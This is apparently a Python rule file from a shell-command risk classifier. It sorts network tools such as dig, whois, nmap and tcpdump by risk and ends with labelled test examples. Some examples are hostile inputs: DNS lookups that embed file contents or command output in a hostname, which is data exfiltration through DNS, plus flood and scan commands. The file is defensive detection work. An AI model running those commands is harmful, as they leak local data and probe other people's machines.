"""Asking the network: names, routes, ports, captures. What is asked for is seen by whoever answers."""

from __future__ import annotations

from assent.risk.address import host
from assent.risk.category import Category
from assent.risk.finding import Judgement
from assent.risk.rule import READS, RUNS, WRITES, Effect, Operands, Program, Role, proven, raises

TYPE_CHECKING = False
if TYPE_CHECKING:
    from assent.command.model import Argument

REMOTE = Category.ReadsRemote
NAMED = proven(host)
NAMES = Operands(NAMED)
REGISTRIES = ("whois.", "whois6.", "rdap.")
SCANS = raises(Category.ModifiesRemote, "probes other machines")


def _registry(word: Argument) -> Judgement:
    """The server that is asked instead of the usual one: any machine that is sent the words."""
    if word.exact and word.text.startswith(REGISTRIES):
        return host(word)
    return Judgement(Category.ModifiesRemote, f"`whois` sends its words to the machine `{word.text}`", word)


PROGRAMS = (
    Program(
        "ping ping6 fping",
        """
        -4 -6 -a -A -b -B -C -D -H -n -o -O -q -r -R -U -v -V -h -c= -i= -I= -l= -m= -M= -Q= -s= -S= -t= -T= -w= -W= -g=
        -G= -z= -k= --apple-connect --apple-time
        """,
        NAMES,
        {"-p=": NAMED, "-f": raises(Category.ModifiesRemote, "floods the other machine")},
        REMOTE,
        "asks whether the machine answers",
        abbreviates=False,
    ),
    Program(
        "dig",
        "-4 -6 -h -i -m -r -u -v -b= -c= -p= -t=",
        NAMES,
        {
            "-q=": NAMED,
            "-x=": NAMED,
            "-f=": Effect(Role.Reads, Category.Unrecognized, "takes the names from"),
            "-k=": Effect(Role.Reads, Category.ReadsSecrets, "uses the key"),
            "-y=": raises(Category.ReadsSecrets, "uses a key"),
        },
        REMOTE,
        "looks up names",
        abbreviates=False,
    ),
    Program(
        "host",
        "-a -C -d -i -l -n -r -s -T -U -v -V -w -4 -6 -c= -m= -N= -p= -R= -t= -W=",
        NAMES,
        {},
        REMOTE,
        "looks up names",
        abbreviates=False,
    ),
    Program(
        "nslookup",
        """
        -type= -query= -q= -ty= -querytype= -class= -port= -timeout= -retry= -debug -nodebug -d2 -nod2 -recurse
        -norecurse -vc -novc -domain= -search -nosearch -fail -nofail -version
        """,
        Operands(NAMED, least=1),
        {},
        REMOTE,
        "looks up names",
        words=True,
    ),
    Program(
        "drill delv kdig doggo dog",
        "-4 -6 -t= -x= -J,--json -1,--short -T,--tls -H,--https -U,--udp -S -D --type= -q= -n=",
        NAMES,
        {},
        REMOTE,
        "looks up names",
        abbreviates=False,
    ),
    Program(
        "whois",
        """
        -a -A -b -B -c -d -f -g= -G -H -i= -I -k -K -l -L -m -M -p,--port= -P -q= -Q -r -R -s= -S -t= -T=
        -v= --verbose --no-recursion
        """,
        NAMES,
        {"-h,--host=": proven(_registry)},
        REMOTE,
        "asks a registry",
    ),
    Program(
        "traceroute traceroute6 tracepath tracepath6",
        """
        -4 -6 -a -A -b -d -D -e -F -I,--icmp -n -r -S -T,--tcp -U,--udp -v -V -x -f,--first= -g,--gateway=
        -i,--interface=
        -m,--max-hops= -N,--sim-queries= -p,--port= -P= -q,--queries= -s,--source= -t,--tos= -w,--wait= -z,--sendwait=
        -l= -M=
        """,
        NAMES,
        {},
        REMOTE,
        "asks for the way to a machine",
    ),
    Program(
        "mtr",
        """
        -4 -6 -r,--report -w,--report-wide -x,--xml -t,--curses -g,--gtk -l,--raw -p,--split -C,--csv -j,--json
        -n,--no-dns -b,--show-ips -o,--order= -y,--ipinfo= -z,--aslookup -i,--interval= -c,--report-cycles=
        -s,--psize= -B,--bitpattern= -G,--gracetime= -Q,--tos= -e,--mpls -Z,--timeout= -M,--mark= -I,--interface=
        -a,--address= -f,--first-ttl= -m,--max-ttl= -U,--max-unknown= -u,--udp -T,--tcp -S,--sctp -P,--port=
        -L,--localport=
        -v -h
        """,
        NAMES,
        {"-F,--filename=": Effect(Role.Reads, Category.Unrecognized, "takes the names from")},
        REMOTE,
        "asks for the way to a machine",
    ),
    Program("arping", "-c= -I= -w= -q -f -D", NAMES, {}, REMOTE, "asks whether the machine answers"),
    Program(
        "nmap masscan zmap rustscan nikto",
        "-V -h",
        NAMES,
        {},
        Category.ModifiesRemote,
        "probes {|other machines}",
        loose=True,
        modes=(("-V -h", Program("nmap")),),
    ),
    Program(
        "tcpdump",
        """
        -A -b -d -D,--list-interfaces -e -f -h -H -I,--monitor-mode -J -K -l,--line-buffered -L -n -N -O -p -q -S -t
        -u -U
        -v -x -X -#,--number --absolute-tcp-sequence-numbers --print -B= -c= -C= -G= -i,--interface= -j= -M= -Q= -s=
        -T= -W= -y= -Z= --immediate-mode --micro --nano
        """,
        effects={
            "-w=": WRITES,
            "-r=": READS,
            "-V=": READS,
            "-F=": READS,
            "-E=": READS,
            "-z=": RUNS,
        },
        category=Category.ReadsSecrets,
        phrase="shows the traffic of this machine, which may hold secrets",
        modes=(
            ("-D", Program("tcpdump")),
            ("-r", Program("tcpdump")),
        ),
        abbreviates=False,
    ),
    Program(
        "tshark",
        """
        -D -h -v -n -N= -d= -Y= -T= -e= -E= -V -O= -P -x -q -z= -c= -i= -a= -b= -f= -s= -S= -t= -u= -l -2 -R= -Q -j= -J=
        """,
        effects={
            "-r=": READS,
            "-w=": WRITES,
            "-X=": RUNS,
            "-o=": raises(Category.Unrecognized, "changes a setting"),
            "-C=": raises(Category.Unrecognized, "takes settings from a profile"),
            "--export-objects=": raises(Category.ModifiesFilesystem, "writes files"),
        },
        category=Category.ReadsSecrets,
        phrase="shows the traffic of this machine, which may hold secrets",
        modes=(
            ("-D -v -h", Program("tshark")),
            ("-r", Program("tshark")),
        ),
        abbreviates=False,
    ),
)

EXAMPLES = """
ReadsRemote: ping -c 3 example.com
ReadsRemote: ping -c1 -W2 10.0.0.1
Unrecognized: ping -c 1 "$(cat a).example.com"
Unrecognized: ping -c 1 $HOST
ModifiesRemote: ping -f example.com
ReadsRemote: dig example.com
ReadsRemote: dig +short example.com MX @1.1.1.1
ReadsRemote: dig -x 10.0.0.1 +noall +answer
Unrecognized: dig "$(base64 a).example.com"
Unrecognized: dig @8.8.8.8 `id`.example.com
Unrecognized: dig -f names
ReadsRemote: host -t mx example.com
Unrecognized: host $(whoami).example.com
ReadsRemote: nslookup -type=mx example.com 8.8.8.8
Unrecognized: nslookup $x
Unrecognized: cat names | nslookup
Unrecognized: nslookup - 8.8.8.8
ReadsRemote: drill example.com
ReadsRemote: whois example.com
ReadsRemote: whois -h whois.example.net 192.0.2.1
ModifiesRemote: whois -h example.net x
ReadsRemote: traceroute -n example.com
ReadsRemote: mtr --report -c 5 example.com
Unrecognized: mtr -F names
ReadsRemote: arping -c 1 10.0.0.1
ModifiesRemote: nmap -sS example.com
ModifiesRemote: nmap --script x example.com
ReadsFilesystem: nmap --version
ReadsFilesystem: tcpdump -D
ReadsFilesystem: tcpdump -nn -r a.pcap port 80
ReadsSecrets: tcpdump -i any
Unrecognized: tcpdump -r a.pcap -z ./x
ModifiesFilesystem: tcpdump -r a.pcap -w b.pcap
ReadsFilesystem: tshark -r a.pcap -Y http
Unrecognized: tshark -r a.pcap -X lua_script:x.lua
"""
